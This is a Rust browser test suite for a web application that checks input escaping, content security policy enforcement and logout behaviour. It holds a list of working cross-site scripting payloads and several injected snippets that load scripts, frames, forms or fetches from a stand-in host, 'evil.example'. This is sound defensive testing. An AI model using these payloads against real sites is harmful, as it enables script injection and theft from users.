//! Strings that are code to a browser, in every field a person can fill and in every address, seen in a real browser: they are
//! shown as what they are, nothing runs, and the content policy had nothing to forbid. Were one ever not escaped, the policy
//! would stop it: that is shown, too.
use anyhow::{Context as _, Result, ensure};
use house::{Customer, House, HouseOptions, OrderForm};
use serde_json::{Value, json};

use super::{chromium::Browser, log_in};
use crate::{
    attacks::people::asking,
    attention::staff,
    shop::{SOON, open, open_with, until},
};

/// Each of these marks the page when it is run. None of them is longer than the shortest field takes.
pub(super) const CODE: [&str; 8] = [
    r#""><script>document.documentElement.id='owned'</script>"#,
    "'><img src=x onerror=document.documentElement.id='owned'>",
    "<svg/onload=document.documentElement.id='owned'>",
    "</textarea><script>document.documentElement.id='owned'</script>",
    r#"" autofocus onfocus="document.documentElement.id='owned'"#,
    "javascript:document.documentElement.id='owned'",
    r#"</title><iframe srcdoc="<script>parent.document.documentElement.id='owned'</script>">"#,
    "{{constructor.constructor('document.documentElement.id=1')()}}",
];

/// Whether anything of ours, or of somebody else, ran or stands in the page as more than words.
const OWNED: &str = "
    const odd = [...document.querySelectorAll('script:not([src]), iframe, object, embed, base, img[src=x], svg[onload]')];
    const events = [...document.querySelectorAll('*')].filter((e) => e.getAttributeNames().some((name) => name.startsWith('on')));
    const links = [...document.querySelectorAll('[href], [action], [src], [formaction]')]
        .filter((e) => ['href', 'action', 'src', 'formaction'].some((n) => /^\\s*(javascript|data|vbscript):/i.test(e.getAttribute(n) ?? '')));
    return [document.documentElement.id, odd.length, events.length, links.length, location.origin]";

/// Fills every field of one form of the page with the same text, and sends it.
const SEND: &str = "
    const [number, text] = arguments;
    const form = [...document.querySelectorAll('main form[method=post]')][number];
    if (!form) { return false }
    for (const field of form.querySelectorAll('input:not([type=hidden]), textarea')) {
        if (field.closest('[aria-hidden=true]')) { continue }
        if (['checkbox', 'radio'].includes(field.type)) { field.checked = true } else { field.type = 'text'; field.value = text }
    }
    form.noValidate = true;
    window.leaving = true;
    HTMLFormElement.prototype.submit.call(form);
    return true";

pub(super) async fn assert_harmless(browser: &Browser, house: &House, what: &str) -> Result<()> {
    let found = browser.ask(OWNED).await?;
    ensure!(found == json!(["", 0, 0, 0, origin_of(house)]), "{what} at {}: {found}", browser.url().await?);
    browser.no_complaints(what).await
}

/// Sends each form of a page with each string in all of its fields, and looks at what comes back.
async fn attack(browser: &Browser, house: &House, path: &str) -> Result<usize> {
    attack_with(browser, house, path, &CODE).await
}

/// The same with these strings.
pub(super) async fn attack_with(browser: &Browser, house: &House, path: &str, codes: &[&str]) -> Result<usize> {
    let (mut sent, mut forms) = (0, usize::MAX);
    for code in codes {
        let mut number = 0;
        while number < forms {
            browser.go(path).await?;
            if browser.ask_with(SEND, vec![json!(number), json!(code)]).await? != json!(true) {
                forms = number;
                break;
            }
            browser.left(SOON).await?;
            assert_harmless(browser, house, &format!("{path}, form {number}, {code}")).await?;
            number += 1;
            sent += 1;
        }
    }
    ensure!(sent >= codes.len(), "{path} has no form that could be filled: {sent}");
    Ok(sent)
}

/// A house in which guesses cost nothing, so that every form is answered every time.
async fn lenient(name: &str) -> House {
    open_with(HouseOptions::named(name).with("EZ_LIMIT_ADDRESS", "100000").with("EZ_LIMIT_LOCK", "100000")).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn strings_that_are_code_to_a_browser_are_words_in_every_field_and_address() -> Result<()> {
    let house = lenient("hostile-fields").await;
    let (browser, customer) = (Browser::open(&house, true).await?, Customer::signed_in(&house).await?);
    for path in ["/accounts/signup/", "/accounts/login/", "/accounts/reset/", "/accounts/verify/"] {
        attack(&browser, &house, path).await?;
    }
    log_in(&browser, &customer).await?;
    for path in ["/accounts/password/", "/accounts/address/", "/accounts/close/", "/billing/checkout/small/"] {
        attack(&browser, &house, path).await?;
    }
    for code in CODE {
        let code: String = url::form_urlencoded::byte_serialize(code.as_bytes()).collect();
        for address in [
            format!("/accounts/reset/?id={code}&tag={code}"),
            format!("/accounts/verify/?id={code}&tag={code}"),
            format!("/accounts/address/confirm/?id={code}&tag={code}"),
            format!("/accounts/?changed={code}"),
            format!("/billing/checkout/small/?term={code}&currency={code}"),
            format!("/billing/invoices/?before={code}"),
            format!("/billing/return/?order={code}&session_id={code}&cancelled={code}"),
            format!("/pricing/?term={code}"),
            format!("/pricing/{code}/"),
            format!("/dashboard/orders/{code}/"),
            format!("/nowhere/{code}?{code}={code}"),
        ] {
            browser.go(&address).await?;
            assert_harmless(&browser, &house, &address).await?;
        }
    }
    // The form of a log-in carries where to go afterwards.
    browser.go("/accounts/logout/").await?;
    browser.press("Log out").await?;
    for code in CODE {
        let code: String = url::form_urlencoded::byte_serialize(code.as_bytes()).collect();
        browser.go(&format!("/accounts/login/?next={code}&confirm={code}")).await?;
        assert_harmless(&browser, &house, "next").await?;
    }
    browser.close().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_name_and_a_reason_that_are_code_are_words_on_every_page_and_in_every_letter() -> Result<()> {
    let house = open("hostile-names").await;
    let stranger = Customer::stranger(&house)?;
    let customer = Customer::at(&house, CODE[0], &stranger.email, &stranger.password)?;
    customer.sign_up().await?;
    customer.verify().await?;
    customer.log_in().await?;
    let order = customer.buy(&OrderForm::small("hostile-1")).await?;
    customer.wait_until_page_says(order.as_str(), "delivered", SOON).await?;
    let server = customer.dashboard().await?.link("/dashboard/vps/")?;
    let colleague = staff(&house).await;
    let subscription: String = sqlx::query_scalar("select subscription_id from services where hostname = 'hostile-1'")
        .fetch_one(house.db())
        .await?;
    let told = format!("/staff/subscriptions/{subscription}/");
    let page = colleague.visitor.open(&told).await?.ok()?;
    let values = [("amount", "1.00"), ("reason", CODE[1])];
    colleague.visitor.submit(&page, &format!("{told}credit/"), &values).await?.ok()?;
    customer
        .wait_until_page_says(server.as_str(), "onerror", SOON)
        .await
        .context("the reason is shown to the customer")?;

    let browser = Browser::open(&house, true).await?;
    log_in(&browser, &customer).await?;
    for path in ["/dashboard/", "/accounts/", "/accounts/sessions/", order.path(), server.path(), "/billing/invoices/"]
    {
        browser.go(path).await?;
        assert_harmless(&browser, &house, path).await?;
    }
    browser.go("/accounts/").await?;
    ensure!(browser.text("main").await?.contains(CODE[0]), "the name is not shown as it was written");
    browser.go("/accounts/logout/").await?;
    browser.press("Log out").await?;
    log_in(&browser, &colleague).await?;
    for path in ["/staff/", "/staff/coming/", &told] {
        browser.go(path).await?;
        assert_harmless(&browser, &house, path).await?;
    }
    ensure!(browser.text("main").await?.contains(CODE[1]), "the reason is not shown as it was written");
    browser.close().await?;
    let letters = until("the letters", SOON, || async {
        let letters = house.mail().letters(&customer.email, "").await.ok()?;
        (letters.len() > 1).then_some(letters)
    })
    .await;
    for letter in letters {
        for tag in ["<script", "<img src=x", "<svg", "<iframe"] {
            ensure!(!letter.html.contains(tag), "{tag} is in the letter “{}”", letter.subject);
        }
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_were_not_escaped_would_not_run() -> Result<()> {
    let house = open("hostile-policy").await;
    let browser = Browser::open(&house, true).await?;
    for (what, put) in [
        (
            "a script",
            "const s = document.createElement('script'); s.textContent = \"document.documentElement.id='owned'\"; document.body.append(s)",
        ),
        (
            "a picture",
            "document.querySelector('main').innerHTML = \"<img src=x onerror=document.documentElement.id='owned'>\"",
        ),
        (
            "a script from elsewhere",
            "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        ),
        (
            "a base",
            "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
        ),
        (
            "a frame",
            "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
        ),
        (
            "a form",
            "const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit()",
        ),
        (
            "a style",
            "const s = document.createElement('style'); s.textContent = 'main { display: none }'; document.head.append(s)",
        ),
        ("a question", "fetch('https://evil.example/').catch(() => {})"),
    ] {
        browser.go("/about/").await?;
        browser.forget_complaints().await?;
        browser.ask("window.refused = []; document.addEventListener('securitypolicyviolation', (e) => window.refused.push(e.effectiveDirective))").await?;
        browser.ask(put).await?;
        let refused = until(&format!("{what} is refused"), SOON, || async {
            let refused = browser.ask("return window.refused").await.ok()?;
            refused.as_array().is_some_and(|list| !list.is_empty()).then_some(refused)
        })
        .await;
        let after = browser
            .ask("return [document.documentElement.id, location.origin, document.baseURI.startsWith(location.origin)]")
            .await?;
        ensure!(after == json!(["", origin_of(&house), true]), "{what}: {after}, although refused: {refused}");
    }
    // What the browser refused it told us, and we noted it without anything of a person.
    until("a report arrives", SOON * 2, || async {
        let told = house.metrics().await.ok()?;
        let line = told.lines().find(|line| line.starts_with(r#"ez_csp_reports_total{outcome="noted"}"#))?;
        (line.rsplit(' ').next()?.parse::<f64>().ok()? > 0.0).then_some(())
    })
    .await;
    browser.forget_complaints().await?;
    browser.close().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_a_log_out_the_way_back_shows_nothing_and_nothing_is_kept_in_the_browser() -> Result<()> {
    let house = open("hostile-back").await;
    let (browser, customer) = (Browser::open(&house, true).await?, Customer::signed_in(&house).await?);
    log_in(&browser, &customer).await?;
    browser.go("/accounts/").await?;
    ensure!(browser.text("main").await?.contains(&customer.email), "not logged in");
    let kept = "return indexedDB.databases().then((all) => [localStorage.length, sessionStorage.length, document.cookie, all.length])";
    let kept: Value = browser.ask(kept).await?;
    ensure!(kept == json!([0, 0, "", 0]), "something is kept where a script can read it: {kept}");
    browser.go("/accounts/logout/").await?;
    browser.press("Log out").await?;
    for _ in 0..3 {
        browser.ask("window.leaving = true; history.back()").await?;
        browser.left(SOON).await?;
        let shown = browser.text("body").await?;
        ensure!(!shown.contains(&customer.email), "the way back shows what was behind the log-in");
    }
    browser.close().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_person_signs_up_in_a_real_browser_where_that_is_asked() -> Result<()> {
    let (_judge, elsewhere, house) = asking("turnstile-browser").await;
    let (browser, stranger) = (Browser::open(&house, true).await?, Customer::stranger(&house)?);
    browser.go("/accounts/signup/").await?;
    until("the script has run", SOON, || async {
        let found = browser.ask("return document.querySelector('[name=cf-turnstile-response]')?.value").await.ok()?;
        found.is_string().then_some(())
    })
    .await;
    let loaded = browser
        .ask("return performance.getEntriesByType('resource').map((entry) => new URL(entry.name).origin)")
        .await?;
    let foreign: Vec<&Value> =
        loaded.as_array().context("a list")?.iter().filter(|origin| **origin != json!(origin_of(&house))).collect();
    ensure!(foreign == [&json!(elsewhere)], "loaded from elsewhere: {foreign:?}");
    browser.no_complaints("signup").await?;
    browser.fill("name", &stranger.name).await?;
    browser.fill("email", &stranger.email).await?;
    browser.fill("password", &stranger.password).await?;
    browser.press("Create account").await?;
    ensure!(browser.url().await?.path() == "/accounts/verify/", "not signed up: {}", browser.text("main").await?);
    browser.close().await
}

fn origin_of(house: &House) -> String {
    house.url().origin().ascii_serialization()
}
